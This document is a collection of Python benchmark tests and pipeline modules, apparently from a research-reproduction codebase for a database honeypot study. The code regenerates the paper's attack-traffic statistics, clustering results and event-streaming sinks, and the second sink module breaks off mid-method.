        "report": result.report,
    }
    path = OUTPUT_DIR / "BENCH_telemetry.json"
    path.write_text(json.dumps(snapshot, indent=2) + "\n",
                    encoding="utf-8")


@pytest.fixture(scope="session")
def low_profiles(experiment):
    return load_ip_profiles(experiment.low_db)


@pytest.fixture(scope="session")
def mid_profiles(experiment):
    return load_ip_profiles(experiment.midhigh_db)


@pytest.fixture(scope="session")
def mid_cluster_labels(experiment, mid_profiles):
    labels: dict[tuple[str, str], int] = {}
    for dbms in ("elasticsearch", "mongodb", "postgresql", "redis"):
        labels.update(cluster_dbms(mid_profiles, dbms,
                                   distance_threshold=CLUSTER_THRESHOLD))
    return labels


@pytest.fixture(scope="session")
def emit():
    """Persist + print a regenerated table."""
    OUTPUT_DIR.mkdir(exist_ok=True)

    def _emit(name: str, text: str) -> None:
        (OUTPUT_DIR / f"{name}.txt").write_text(text + "\n",
                                                encoding="utf-8")
        print(f"\n=== {name} ===\n{text}")

    return _emit
