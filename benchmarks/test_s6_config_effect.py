"""Section 6: honeypot-configuration effects.

Paper shape: the login-disabled Sticky Elephant attracts ~2x the login
attempts of the open one (29,217 vs 14,084); only the fake-data Redis
sees the KEYS-then-TYPE-every-entry probing pattern.
"""

from repro.core.reports import config_effect, format_table


def test_s6_config_effect(benchmark, experiment, emit):
    effect = benchmark(lambda: config_effect(experiment.midhigh_db))

    ratio = (effect.psql_restricted_logins
             / max(1, effect.psql_open_logins))
    emit("s6_config_effect", format_table(
        ["Configuration", "Metric", "Count"],
        [["PostgreSQL default (open)", "login attempts",
          effect.psql_open_logins],
         ["PostgreSQL login-disabled", "login attempts",
          effect.psql_restricted_logins],
         ["Redis default", "TYPE commands",
          effect.redis_default_type_cmds],
         ["Redis fake-data", "TYPE commands",
          effect.redis_fake_data_type_cmds]])
        + f"\nrestricted/open login ratio: {ratio:.2f} (paper: 2.07)")

    assert 1.3 <= ratio <= 3.5
    assert effect.redis_fake_data_type_cmds > 100
    assert effect.redis_default_type_cmds < \
        effect.redis_fake_data_type_cmds / 10
