"""Figure 2: hourly clients and cumulative unique IPs (low tier).

Paper shape: ~50 clients probing per hour on average, ~7 previously
unseen per hour, 3,340 unique sources over the 20 days.
"""

from repro.core.plotting import line_chart
from repro.core.reports import format_table
from repro.core.temporal import hourly_series


def test_fig2_lowint_temporal(benchmark, experiment, emit):
    series = benchmark(lambda: hourly_series(experiment.low_db,
                                             label="low-interaction"))

    sample_rows = [[hour, series.clients_per_hour[hour],
                    series.cumulative_new[hour]]
                   for hour in range(0, series.hours,
                                     max(1, series.hours // 20))]
    emit("fig2_lowint_temporal", format_table(
        ["Hour", "Clients/h", "Cumulative unique"], sample_rows)
        + f"\nmean clients/hour: {series.mean_clients_per_hour():.1f}"
        + f"\nmean new/hour:     {series.mean_new_per_hour():.1f}"
        + f"\ntotal unique IPs:  {series.total_unique}"
        + "\n\nclients per hour:\n"
        + line_chart([float(v) for v in series.clients_per_hour],
                     label="hour 0 .. end of deployment")
        + "\n\ncumulative unique IPs:\n"
        + line_chart([float(v) for v in series.cumulative_new],
                     label="hour 0 .. end of deployment"))

    assert series.total_unique == 3340
    # The paper observes ~50 clients/hour and ~7 new/hour against 220
    # honeypots; the simulated population reproduces that order.
    assert 10 <= series.mean_clients_per_hour() <= 120
    assert 3 <= series.mean_new_per_hour() <= 15
    # Cumulative-unique is monotone and keeps growing past day one
    # (fresh sources keep appearing, Fig. 2's second line).
    assert series.cumulative_new[-1] > series.cumulative_new[
        len(series.cumulative_new) // 4]
