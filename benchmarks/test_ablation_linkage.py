"""Ablation: clustering linkage method.

The paper chose Ward linkage; this bench compares the cluster structure
under single, complete, average, and Ward linkage at the same cut
threshold.  Single linkage chains distinct bot toolkits together
(fewer, sloppier clusters); Ward keeps same-toolkit groups tight.
"""

from repro.core.clustering import AgglomerativeClustering
from repro.core.metrics import silhouette_score
from repro.core.loading import action_sequences
from repro.core.reports import format_table
from repro.core.tf import TfVectorizer
from .conftest import CLUSTER_THRESHOLD


def test_ablation_linkage(benchmark, mid_profiles, emit):
    sequences = action_sequences(mid_profiles, dbms="postgresql")
    ips = sorted(sequences)
    matrix = TfVectorizer().fit_transform([sequences[ip] for ip in ips])

    def cluster_all():
        results = {}
        for method in ("ward", "single", "complete", "average"):
            model = AgglomerativeClustering(
                distance_threshold=CLUSTER_THRESHOLD, method=method)
            labels = model.fit_predict(matrix)
            quality = (silhouette_score(matrix, labels)
                       if model.n_clusters_ >= 2 else float("nan"))
            results[method] = (model.n_clusters_, quality)
        return results

    results = benchmark.pedantic(cluster_all, rounds=1, iterations=1)

    emit("ablation_linkage", format_table(
        ["Linkage", "#Clusters (PostgreSQL)", "Silhouette"],
        [[method, count, f"{quality:.3f}"]
         for method, (count, quality) in results.items()])
        + f"\n(n = {len(ips)} interactive IPs, cut at "
          f"t = {CLUSTER_THRESHOLD})")

    counts = {method: count for method, (count, _q) in results.items()}
    # All linkages agree on zero-distance groups, so every method finds
    # at least the identical-toolkit partition...
    assert min(counts.values()) >= 10
    # ...and single linkage never yields more clusters than complete
    # (chaining can only merge more).
    assert counts["single"] <= counts["complete"]
    assert counts["ward"] >= counts["single"]
    # The paper's Ward choice yields tight, well-separated clusters.
    assert results["ward"][1] > 0.7
