"""Replay engine throughput: serial vs sharded (2 and 4 workers).

Times the replay stage alone (schedule compilation and conversion
excluded) for each executor, records events/second and the speedup over
serial, and snapshots the numbers to ``BENCH_replay.json``.

The numbers are honest for the machine they ran on: sharding pays a
fork + outcome-pickling overhead that only amortizes when real cores
are available, so on a single-CPU container the sharded engines are
*slower* than serial.  ``cpu_count`` is recorded alongside the timings
so a reader can tell the difference between "sharding is broken" and
"there was nothing to parallelize onto".
"""

from __future__ import annotations

import json
import os
import platform
from time import perf_counter

from repro.agents.population import build_world
from repro.deployment.plan import build_plan
from repro.deployment.replay import build_engine, compile_visits
from repro.obs import NULL_TELEMETRY
from repro.core.reports import format_table

from .conftest import OUTPUT_DIR

WORKER_COUNTS = (1, 2, 4)


def replay_scale() -> float:
    # Replay is timed three times over; default to half the analysis
    # benches' scale to keep the suite's wall time in check.
    return float(os.environ.get("REPRO_BENCH_REPLAY_SCALE", "0.001"))


def test_replay_throughput(emit):
    seed = int(os.environ.get("REPRO_BENCH_SEED", "2024"))
    scale = replay_scale()
    runs = []
    for workers in WORKER_COUNTS:
        # Fresh plan/world per run: honeypots mutate during replay.
        plan = build_plan(seed=seed)
        world = build_world(seed=seed, volume_scale=scale)
        schedule = compile_visits(world, plan, seed)
        engine = build_engine(workers)
        started = perf_counter()
        outcomes = list(engine.replay(schedule, plan, seed,
                                      NULL_TELEMETRY))
        wall = perf_counter() - started
        events = sum(len(outcome.events) for outcome in outcomes)
        runs.append({
            "workers": workers,
            "executor": engine.stats["executor"],
            "pool": engine.stats.get("pool"),
            "visits": len(schedule),
            "events": events,
            "wall_seconds": round(wall, 3),
            "events_per_second": round(events / wall, 1),
            "merge_seconds": engine.stats.get("merge_seconds"),
        })

    serial = runs[0]
    for run in runs:
        run["speedup_vs_serial"] = round(
            serial["wall_seconds"] / run["wall_seconds"], 2)

    snapshot = {
        "bench": {
            "scale": scale,
            "seed": seed,
            "cpu_count": os.cpu_count(),
            "python": platform.python_version(),
            "platform": platform.platform(),
        },
        "runs": runs,
    }
    OUTPUT_DIR.mkdir(exist_ok=True)
    (OUTPUT_DIR / "BENCH_replay.json").write_text(
        json.dumps(snapshot, indent=2) + "\n", encoding="utf-8")

    emit("replay_throughput", format_table(
        ["Workers", "Executor", "Wall (s)", "Events/s", "Speedup"],
        [[run["workers"], run["executor"], f"{run['wall_seconds']:.3f}",
          f"{run['events_per_second']:.0f}",
          f"{run['speedup_vs_serial']:.2f}x"] for run in runs]))

    # Correctness invariants hold regardless of available parallelism.
    assert len({run["events"] for run in runs}) == 1
    assert len({run["visits"] for run in runs}) == 1
    assert all(run["wall_seconds"] > 0 for run in runs)
