"""Table 6: top-10 ASNs by IP count with their login split.

Paper shape: Hurricane leads by IP count with zero logins, hosting
providers dominate the top-10, Chinanet contributes few IPs but heavy
MSSQL login volume, Censys appears with zero logins.
"""

from repro.core.reports import asn_table, format_table


def test_table6_top_asn(benchmark, experiment, emit):
    rows = benchmark(lambda: asn_table(experiment.low_db, top=10))

    emit("table6_top_asn", format_table(
        ["AS", "ASN", "#IPs", "share", "#Logins", "MySQL", "MSSQL"],
        [[row.as_name, row.asn, row.ip_count, f"{row.share:.1%}",
          row.logins, row.by_dbms.get("mysql", 0),
          row.by_dbms.get("mssql", 0)] for row in rows]))

    by_name = {row.as_name: row for row in rows}
    assert rows[0].as_name == "HURRICANE"
    assert rows[0].logins == 0
    assert by_name["CENSYS-ARIN-01"].logins == 0
    assert by_name["Chinanet"].logins > by_name["Chinanet"].ip_count
    assert by_name["Chinanet"].by_dbms.get("mssql", 0) > \
        by_name["Chinanet"].by_dbms.get("mysql", 0)
    # The Google Cloud cohort is MySQL-focused, as in the paper.
    google = by_name["GOOGLE-CLOUD-PLATFORM"]
    assert google.by_dbms.get("mysql", 0) > google.by_dbms.get("mssql", 0)
    # Paper IP counts, reproduced exactly.
    assert rows[0].ip_count == 643
    assert google.ip_count == 560
