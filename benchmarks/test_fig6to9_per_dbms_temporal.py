"""Figures 6-9: per-DBMS hourly traffic on the low-interaction tier.

Paper shape: the overall pattern is consistent across the four services
(random spikes over a steady base), while absolute volumes differ with
each service's targeting frequency.
"""

from repro.core.plotting import sparkline
from repro.core.reports import format_table
from repro.core.temporal import per_dbms_series


def test_fig6to9_per_dbms_temporal(benchmark, experiment, emit):
    series = benchmark(lambda: per_dbms_series(experiment.low_db,
                                               interaction="low"))

    def spark(s):
        step = max(1, s.hours // 60)
        return sparkline([float(v)
                          for v in s.clients_per_hour[::step]])

    emit("fig6to9_per_dbms_temporal", format_table(
        ["DBMS", "Hours", "Unique IPs", "Mean clients/h",
         "Mean new/h"],
        [[dbms, s.hours, s.total_unique,
          f"{s.mean_clients_per_hour():.1f}",
          f"{s.mean_new_per_hour():.2f}"]
         for dbms, s in sorted(series.items())])
        + "\n\nhourly clients (sparklines):\n"
        + "\n".join(f"{dbms:13s} {spark(s)}"
                     for dbms, s in sorted(series.items())))

    assert set(series) == {"mysql", "postgresql", "redis", "mssql"}
    for s in series.values():
        assert s.total_unique > 500
        assert s.hours >= 24 * 18
    # MSSQL attracts the brute-force volume, so its hourly activity is
    # the heaviest of the four (Figure 6 vs Figures 7-9).
    means = {dbms: s.mean_clients_per_hour()
             for dbms, s in series.items()}
    assert means["mssql"] == max(means.values())
