"""Table 5: top-10 countries by login attempts.

Paper shape: Russia dominates (16.6M of 18.2M attempts, driven by four
IPs), MSSQL receives >99.5% of all login attempts, PostgreSQL sees only
the 13 misconfigured US clients, Redis none.
"""

from repro.core.bruteforce import credential_stats, logins_by_country
from repro.core.reports import extrapolate, format_table


def test_table5_login_countries(benchmark, experiment, emit):
    rows = benchmark(lambda: logins_by_country(experiment.low_db,
                                               top=10))
    scale = experiment.config.volume_scale
    emit("table5_login_countries", format_table(
        ["Country", "#Logins", "extrapolated", "#IP/Total", "MySQL",
         "PSQL", "MSSQL"],
        [[row.country, row.logins, extrapolate(row.logins, scale),
          f"{row.login_ips}/{row.total_ips}",
          row.by_dbms.get("mysql", 0), row.by_dbms.get("postgresql", 0),
          row.by_dbms.get("mssql", 0)] for row in rows]))

    assert rows[0].country == "Russia"
    total = sum(row.logins for row in rows)
    assert rows[0].logins / total > 0.85
    # MSSQL dominance across the whole dataset.
    mssql = credential_stats(experiment.low_db, "mssql").total_attempts
    mysql = credential_stats(experiment.low_db, "mysql").total_attempts
    psql = credential_stats(experiment.low_db,
                            "postgresql").total_attempts
    redis = credential_stats(experiment.low_db, "redis").total_attempts
    assert mssql / (mssql + mysql + psql + 1) > 0.95
    assert redis == 0
    # Extrapolated Russian volume lands near the paper's 16.6M.
    russia = extrapolate(rows[0].logins, scale)
    assert 0.5 * 16_629_581 <= russia <= 1.5 * 16_629_581
