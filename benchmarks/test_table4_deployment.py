"""Table 4: the 278-instance deployment plan."""

from repro.core.reports import format_table
from repro.deployment.plan import build_plan


def test_table4_deployment(benchmark, emit):
    plan = benchmark(build_plan)

    rows = []
    for interaction in ("low", "medium", "high"):
        targets = plan.select(interaction=interaction)
        by_group: dict[tuple[str, str], int] = {}
        for target in targets:
            key = (target.dbms, target.config)
            by_group[key] = by_group.get(key, 0) + 1
        for (dbms, config), count in sorted(by_group.items()):
            port = plan.select(interaction=interaction,
                               dbms=dbms)[0].honeypot.info.port
            rows.append([interaction, dbms, port, count, config])
    emit("table4_deployment", format_table(
        ["Interaction", "DBMS", "Port", "Instances", "Configuration"],
        rows))

    assert len(plan) == 278
    assert len(plan.select(interaction="low")) == 220
    assert len(plan.select(interaction="medium")) == 50
    assert len(plan.select(interaction="high")) == 8
