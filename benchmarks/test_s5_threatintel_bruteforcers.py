"""Section 5: threat-intelligence coverage of the brute-forcers.

Paper shape: 126/599 (21%) flagged malicious by Greynoise, 391 (65%)
recently reported on AbuseIPDB, 289 (48%) suspicious per Team Cymru,
zero FEODO C2 overlap.
"""

from repro.core.bruteforce import brute_force_ips
from repro.core.reports import format_table
from repro.threatintel import crossref


def test_s5_threatintel_bruteforcers(benchmark, experiment, emit):
    ips = brute_force_ips(experiment.low_db)
    report = benchmark(lambda: crossref(ips, experiment.world.intel))

    emit("s5_threatintel_bruteforcers", format_table(
        ["Platform", "Flagged", "Fraction"],
        [[name, count, f"{fraction:.0%}"]
         for name, count, fraction in report.rows()])
        + f"\npopulation: {report.population} brute-forcing IPs")

    assert report.population == 599
    assert 0.12 <= report.rate(report.greynoise_malicious) <= 0.32
    assert 0.50 <= report.rate(report.abuseipdb_reported) <= 0.80
    assert 0.35 <= report.rate(report.cymru_suspicious) <= 0.60
    assert report.feodo_c2 == 0
