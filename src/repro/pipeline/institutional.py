"""Institutional scanner detection.

The paper identifies sources belonging to known institutional scanners --
security companies, research groups, and device search engines such as
Censys and Shodan -- following the source-list methodology of Griffioen
et al. (IMC 2024).  :class:`InstitutionalScannerList` is that list: a set
of AS numbers and individual IPs known to belong to acknowledged
scanning organizations.
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass, field


@dataclass
class InstitutionalScannerList:
    """Known institutional scanning sources (ASes and single IPs)."""

    asns: set[int] = field(default_factory=set)
    ips: set[str] = field(default_factory=set)

    def add_asn(self, asn: int) -> None:
        """Mark a whole AS as institutional (e.g. CENSYS-ARIN-01)."""
        self.asns.add(asn)

    def add_ip(self, ip: str) -> None:
        """Mark one address as institutional."""
        self.ips.add(str(ipaddress.IPv4Address(ip)))

    def is_institutional(self, ip: str, asn: int | None) -> bool:
        """Whether ``ip`` (in AS ``asn``) belongs to a known scanner."""
        if asn is not None and asn in self.asns:
            return True
        return ip in self.ips

    def __len__(self) -> int:
        return len(self.asns) + len(self.ips)
