"""Composable event sinks: the streaming half of the pipeline.

The paper's pipeline (Figure 1) is collection -> raw logs -> SQLite.
The original driver ran it as separate fully-buffered passes: collect
every event into a :class:`~repro.pipeline.logstore.LogStore`, re-walk
it to split tiers, then convert each tier.  The sinks here let events
flow through the whole pipeline *once*: a sink is any callable
``sink(event) -> None`` (the :data:`~repro.pipeline.logstore.EventSink`
contract honeypot sessions already emit into), optionally with a
``close()`` finalizer, and sinks compose::

    TeeSink(
        CountingSink(),                      # manifest breakdowns
        TierSplitSink(                       # low vs medium/high
            SQLiteWriterSink("low.sqlite", ...),     # own writer thread
            SQLiteWriterSink("midhigh.sqlite", ...), # own writer thread
        ),
        RawLogSink("raw-logs/"),             # consolidated JSONL
    )

:class:`SQLiteWriterSink` hands its events to a dedicated writer
thread running the chunked :func:`~repro.pipeline.convert.convert_to_sqlite`,
so the low and medium/high conversions proceed concurrently while the
replay engine is still producing events.
"""

from __future__ import annotations

import contextvars
import queue
import threading
from collections import Counter
from pathlib import Path
from typing import Iterator, Protocol, runtime_checkable

from repro import obs
from repro.pipeline.logstore import LogEvent

__all__ = [
    "BufferSink", "CountingSink", "EventSinkProtocol", "RawLogSink",
    "SQLiteWriterSink", "TeeSink", "TierSplitSink", "close_sink",
]


@runtime_checkable
class EventSinkProtocol(Protocol):
    """Structural type of a sink: a callable consuming one event."""

    def __call__(self, event: LogEvent) -> None: ...


def close_sink(sink: object) -> object:
    """Call ``sink.close()`` if the sink has one; returns its result."""
    close = getattr(sink, "close", None)
    return close() if callable(close) else None


class TeeSink:
    """Fans every event out to each child sink, in order."""

    def __init__(self, *sinks: EventSinkProtocol):
        self.sinks = sinks

    def __call__(self, event: LogEvent) -> None:
        for sink in self.sinks:
            sink(event)

    def close(self) -> None:
        for sink in self.sinks:
            close_sink(sink)


class TierSplitSink:
    """Routes events to a low-tier or medium/high-tier sink by the
    event's interaction level, counting each side."""

    def __init__(self, low: EventSinkProtocol, midhigh: EventSinkProtocol):
        self.low = low
        self.midhigh = midhigh
        self.low_count = 0
        self.midhigh_count = 0

    def __call__(self, event: LogEvent) -> None:
        if event.interaction == "low":
            self.low_count += 1
            self.low(event)
        else:
            self.midhigh_count += 1
            self.midhigh(event)

    def close(self) -> None:
        close_sink(self.low)
        close_sink(self.midhigh)


class CountingSink:
    """Tallies the manifest breakdowns (type/DBMS/interaction/honeypot)
    in the same single pass that feeds the writers."""

    def __init__(self) -> None:
        self.total = 0
        self.counts: dict[str, Counter] = {
            "event_type": Counter(), "dbms": Counter(),
            "interaction": Counter(), "honeypot_id": Counter()}

    def __call__(self, event: LogEvent) -> None:
        self.total += 1
        self.counts["event_type"][event.event_type] += 1
        self.counts["dbms"][event.dbms] += 1
        self.counts["interaction"][event.interaction] += 1
        self.counts["honeypot_id"][event.honeypot_id] += 1


class BufferSink:
    """Collects events into a list (dataset export needs a full pass)."""

    def __init__(self) -> None:
        self.events: list[LogEvent] = []

    def __call__(self, event: LogEvent) -> None:
        self.events.append(event)

    def __iter__(self) -> Iterator[LogEvent]:
        return iter(self.events)

    def __len__(self) -> int:
        return len(self.events)


class RawLogSink:
    """Streams consolidated JSONL raw logs (Figure 1, step 2).

    Writes the same one-file-per-``(interaction, dbms, config)`` layout
    as :meth:`LogStore.write_consolidated`, but incrementally: each
    group's file handle opens on the group's first event and every
    event is appended as it arrives.
    """

    def __init__(self, directory: str | Path):
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self._handles: dict[str, object] = {}

    def __call__(self, event: LogEvent) -> None:
        name = f"{event.interaction}-{event.dbms}-{event.config}.jsonl"
        handle = self._handles.get(name)
        if handle is None:
            handle = self._handles[name] = open(
                self.directory / name, "w", encoding="utf-8")
        handle.write(event.to_json() + "\n")

    def close(self) -> list[Path]:
        """Close every group file; returns the paths written, sorted."""
        for handle in self._handles.values():
            handle.close()
        paths = sorted(self.directory / name for name in self._handles)
        self._handles = {}
        return paths


class SQLiteWriterSink:
    """Streams events into a SQLite conversion on a dedicated thread.

    The writer thread (started lazily on the first event, so a sharded
    driver can still fork cleanly before any event flows) drains an
    unbounded queue through
    :func:`~repro.pipeline.convert.convert_to_sqlite`; :meth:`close`
    sends the end-of-stream sentinel, joins the thread, and re-raises
    any conversion failure in the caller.  Two writer sinks -- one per
    tier -- is what lets both database conversions run concurrently
    with each other and with the replay itself.
    """

    _SENTINEL = object()

    def __init__(self, db_path: str | Path, geoip, scanners=None):
        self.db_path = Path(db_path)
        self._geoip = geoip
        self._scanners = scanners
        self._queue: queue.SimpleQueue = queue.SimpleQueue()
        self._thread: threading.Thread | None = None
        self._error: BaseException | None = None
        self.path: Path | None = None

    def __call__(self, event: LogEvent) -> None:
        if self._thread is None:
            # Run the writer inside a copy of the caller's context so
            # correlation fields (run_id, shard) bound at submission
            # time follow the records the writer thread logs.
            context = contextvars.copy_context()
            self._thread = threading.Thread(
                target=lambda: context.run(self._run),
                name=f"sqlite-writer-{self.db_path.name}",
                daemon=True)
            self._thread.start()
            obs.current().logger.info("sink.writer_start",
                                      db=self.db_path.name)
        self._queue.put(event)

    def _drain(self) -> Iterator[LogEvent]:
        while True:
            item = self._queue.get()
            if item is self._SENTINEL:
                return
            yield item

    def _run(self) -> None:
        from repro.pipeline.convert import convert_to_sqlite

        try:
            self.path = convert_to_sqlite(self._drain(), self.db_path,
                                          self._geoip, self._scanners)
        except BaseException as error:  # re-raised by close()
            self._error = error

    def close(self) -> Path:
        """Finish the conversion; returns the database path (idempotent)."""
        if self._error is not None:
            raise self._error
        if self.path is not None and self._thread is None:
            return self.path
        if self._thread is None:
            # No events ever arrived: still produce the (empty) database.
            from repro.pipeline.convert import convert_to_sqlite

            self.path = convert_to_sqlite([], self.db_path, self._geoip,
                                          self._scanners)
            return self.path
        self._queue.put(self._SENTINEL)
        self._thread.join()
        self._thread = None
        if self._error is not None:
            obs.current().logger.error(
                "sink.writer_failed", db=self.db_path.name,
                error=f"{type(self._error).__name__}: {self._error}")
            raise self._error
        assert self.path is not None
        obs.current().logger.info("sink.writer_done",
                                  db=self.db_path.name)
        return self.path
