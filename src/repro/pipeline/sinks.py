"""Composable event sinks: the streaming half of the pipeline.

The paper's pipeline (Figure 1) is collection -> raw logs -> SQLite.
The original driver ran it as separate fully-buffered passes: collect
every event into a :class:`~repro.pipeline.logstore.LogStore`, re-walk
it to split tiers, then convert each tier.  The sinks here let events
flow through the whole pipeline *once*: a sink is any callable
``sink(event) -> None`` (the :data:`~repro.pipeline.logstore.EventSink`
contract honeypot sessions already emit into), optionally with a
``close()`` finalizer, and sinks compose::

    TeeSink(
        CountingSink(),                      # manifest breakdowns
        TierSplitSink(                       # low vs medium/high
            SQLiteWriterSink("low.sqlite", ...),     # own writer thread
            SQLiteWriterSink("midhigh.sqlite", ...), # own writer thread
        ),
        RawLogSink("raw-logs/"),             # consolidated JSONL
    )

:class:`SQLiteWriterSink` hands its events to a dedicated writer
thread running the chunked :func:`~repro.pipeline.convert.convert_to_sqlite`,
so the low and medium/high conversions proceed concurrently while the
replay engine is still producing events.

Checkpointed runs construct the writer sinks with ``durable=True``:
the writer thread runs :func:`~repro.pipeline.convert.convert_durable`
instead, and the driver's :meth:`SQLiteWriterSink.commit` barrier
blocks until every event handed to the sink so far is fsync-durable on
disk, returning the committed ``(rows, digest)`` state recorded in the
run journal.  ``resume=(rows, digest_hex)`` re-opens a validated
database instead of replacing it.
"""

from __future__ import annotations

import contextvars
import os
import queue
import threading
from collections import Counter, deque
from pathlib import Path
from typing import Iterator, Protocol, runtime_checkable

from repro import obs
from repro.pipeline.logstore import LogEvent, consolidated_group_name

__all__ = [
    "BufferSink", "CountingSink", "EventSinkProtocol", "RawLogSink",
    "SQLiteWriterSink", "TeeSink", "TierSplitSink", "close_sink",
]


@runtime_checkable
class EventSinkProtocol(Protocol):
    """Structural type of a sink: a callable consuming one event."""

    def __call__(self, event: LogEvent) -> None: ...


def close_sink(sink: object) -> object:
    """Call ``sink.close()`` if the sink has one; returns its result."""
    close = getattr(sink, "close", None)
    return close() if callable(close) else None


class TeeSink:
    """Fans every event out to each child sink, in order."""

    def __init__(self, *sinks: EventSinkProtocol):
        self.sinks = sinks

    def __call__(self, event: LogEvent) -> None:
        for sink in self.sinks:
            sink(event)

    def many(self, events: list[LogEvent]) -> None:
        """Fan a pre-collected batch out to each child, in order.

        Children exposing a ``many`` method get the whole list in one
        call (one dispatch per batch instead of per event); plain
        callables fall back to the per-event loop.
        """
        for sink in self.sinks:
            batched = getattr(sink, "many", None)
            if batched is not None:
                batched(events)
            else:
                for event in events:
                    sink(event)

    def close(self) -> None:
        for sink in self.sinks:
            close_sink(sink)


class TierSplitSink:
    """Routes events to a low-tier or medium/high-tier sink by the
    event's interaction level, counting each side."""

    def __init__(self, low: EventSinkProtocol, midhigh: EventSinkProtocol):
        self.low = low
        self.midhigh = midhigh
        self.low_count = 0
        self.midhigh_count = 0

    def __call__(self, event: LogEvent) -> None:
        if event.interaction == "low":
            self.low_count += 1
            self.low(event)
        else:
            self.midhigh_count += 1
            self.midhigh(event)

    def many(self, events: list[LogEvent]) -> None:
        """Route a batch, preserving per-tier event order."""
        low = [event for event in events if event.interaction == "low"]
        if len(low) == len(events):
            midhigh: list[LogEvent] = []
        elif low:
            midhigh = [event for event in events
                       if event.interaction != "low"]
        else:
            midhigh = events
        if low:
            self.low_count += len(low)
            self._feed(self.low, low)
        if midhigh:
            self.midhigh_count += len(midhigh)
            self._feed(self.midhigh, midhigh)

    @staticmethod
    def _feed(sink: EventSinkProtocol, events: list[LogEvent]) -> None:
        batched = getattr(sink, "many", None)
        if batched is not None:
            batched(events)
        else:
            for event in events:
                sink(event)

    def close(self) -> None:
        # Close both sides even when one fails, so a low-tier writer
        # error cannot leave the midhigh writer thread dangling.
        try:
            close_sink(self.low)
        finally:
            close_sink(self.midhigh)


class CountingSink:
    """Tallies the manifest breakdowns (type/DBMS/interaction/honeypot)
    in the same single pass that feeds the writers."""

    def __init__(self) -> None:
        self.total = 0
        self.counts: dict[str, Counter] = {
            "event_type": Counter(), "dbms": Counter(),
            "interaction": Counter(), "honeypot_id": Counter()}

    def __call__(self, event: LogEvent) -> None:
        self.total += 1
        self.counts["event_type"][event.event_type] += 1
        self.counts["dbms"][event.dbms] += 1
        self.counts["interaction"][event.interaction] += 1
        self.counts["honeypot_id"][event.honeypot_id] += 1

    def many(self, events: list[LogEvent]) -> None:
        """Tally a batch via ``Counter.update`` (C-level counting)."""
        self.total += len(events)
        counts = self.counts
        counts["event_type"].update(
            event.event_type for event in events)
        counts["dbms"].update(event.dbms for event in events)
        counts["interaction"].update(
            event.interaction for event in events)
        counts["honeypot_id"].update(
            event.honeypot_id for event in events)

    def snapshot(self) -> dict:
        """JSON-serializable state for a run-journal checkpoint."""
        return {"total": self.total,
                "counts": {category: dict(counter)
                           for category, counter in self.counts.items()}}

    def restore(self, state: dict) -> None:
        """Restore counts recorded by :meth:`snapshot` (resume path)."""
        self.total = int(state.get("total", 0))
        for category, values in (state.get("counts") or {}).items():
            if category in self.counts:
                self.counts[category] = Counter(
                    {key: int(count) for key, count in values.items()})


class BufferSink:
    """Collects events into a list (dataset export needs a full pass)."""

    def __init__(self) -> None:
        self.events: list[LogEvent] = []

    def __call__(self, event: LogEvent) -> None:
        self.events.append(event)

    def many(self, events: list[LogEvent]) -> None:
        self.events.extend(events)

    def __iter__(self) -> Iterator[LogEvent]:
        return iter(self.events)

    def __len__(self) -> int:
        return len(self.events)


class RawLogSink:
    """Streams consolidated JSONL raw logs (Figure 1, step 2).

    Writes the same one-file-per-``(interaction, dbms, config)`` layout
    as :meth:`LogStore.write_consolidated`, but incrementally: each
    group's file handle opens on the group's first event and every
    event is appended as it arrives.

    For checkpointed runs, :meth:`commit` fsyncs every open group file
    and reports committed byte offsets; ``resume={name: bytes}``
    reopens the (already truncated) group files in append mode and
    keeps their recorded offsets alive across later checkpoints even
    if a group sees no further events.
    """

    def __init__(self, directory: str | Path, *,
                 resume: dict[str, int] | None = None):
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self._handles: dict[str, object] = {}
        self._committed: dict[str, int] = dict(resume or {})
        self._append = resume is not None

    def __call__(self, event: LogEvent) -> None:
        name = consolidated_group_name(event)
        handle = self._handles.get(name)
        if handle is None:
            handle = self._handles[name] = open(
                self.directory / name, "a" if self._append else "w",
                encoding="utf-8")
        handle.write(event.to_json() + "\n")

    def commit(self) -> dict[str, int]:
        """Flush + fsync every group file; returns ``{name: bytes}``."""
        for name, handle in self._handles.items():
            handle.flush()
            os.fsync(handle.fileno())
            self._committed[name] = (self.directory / name).stat().st_size
        return dict(self._committed)

    def close(self) -> list[Path]:
        """Close every group file; returns the paths written, sorted."""
        for handle in self._handles.values():
            handle.close()
        names = set(self._handles) | set(self._committed)
        paths = sorted(self.directory / name for name in names)
        self._handles = {}
        return paths


class SQLiteWriterSink:
    """Streams events into a SQLite conversion on a dedicated thread.

    The writer thread (started lazily on the first event, so a sharded
    driver can still fork cleanly before any event flows) drains an
    unbounded queue through
    :func:`~repro.pipeline.convert.convert_to_sqlite`; :meth:`close`
    sends the end-of-stream sentinel, joins the thread, and re-raises
    any conversion failure in the caller.  Two writer sinks -- one per
    tier -- is what lets both database conversions run concurrently
    with each other and with the replay itself.
    """

    _SENTINEL = object()
    #: Events accumulated driver-side before one queue hand-off.  The
    #: replay loop and the writer threads share the GIL; batching turns
    #: ~160k per-event ``put``/``get`` wakeups per run into a few
    #: hundred, without changing event order or durability semantics
    #: (commit barriers and close flush the partial batch first).
    BATCH = 512

    def __init__(self, db_path: str | Path, geoip, scanners=None, *,
                 durable: bool = False,
                 resume: tuple[int, str] | None = None):
        if resume is not None and not durable:
            raise ValueError("resume requires a durable writer sink")
        self.db_path = Path(db_path)
        self._geoip = geoip
        self._scanners = scanners
        self._durable = durable
        self._resume = resume
        self._queue: queue.SimpleQueue = queue.SimpleQueue()
        self._pending: list[LogEvent] = []
        self._backlog: deque = deque()
        self._thread: threading.Thread | None = None
        self._error: BaseException | None = None
        self.path: Path | None = None
        #: Final ``(rows, digest)`` state after a durable close.
        self.committed_state: dict | None = None

    def _ensure_thread(self) -> None:
        if self._thread is not None:
            return
        # Run the writer inside a copy of the caller's context so
        # correlation fields (run_id, shard) bound at submission
        # time follow the records the writer thread logs.
        context = contextvars.copy_context()
        self._thread = threading.Thread(
            target=lambda: context.run(self._run),
            name=f"sqlite-writer-{self.db_path.name}",
            daemon=True)
        self._thread.start()
        obs.current().logger.info("sink.writer_start",
                                  db=self.db_path.name,
                                  durable=self._durable)

    def __call__(self, event: LogEvent) -> None:
        if self._error is not None:
            # Fail fast: keeping the replay running while the writer is
            # dead would silently drop every subsequent event.
            raise RuntimeError(
                f"sqlite writer for {self.db_path.name} already "
                f"failed") from self._error
        self._ensure_thread()
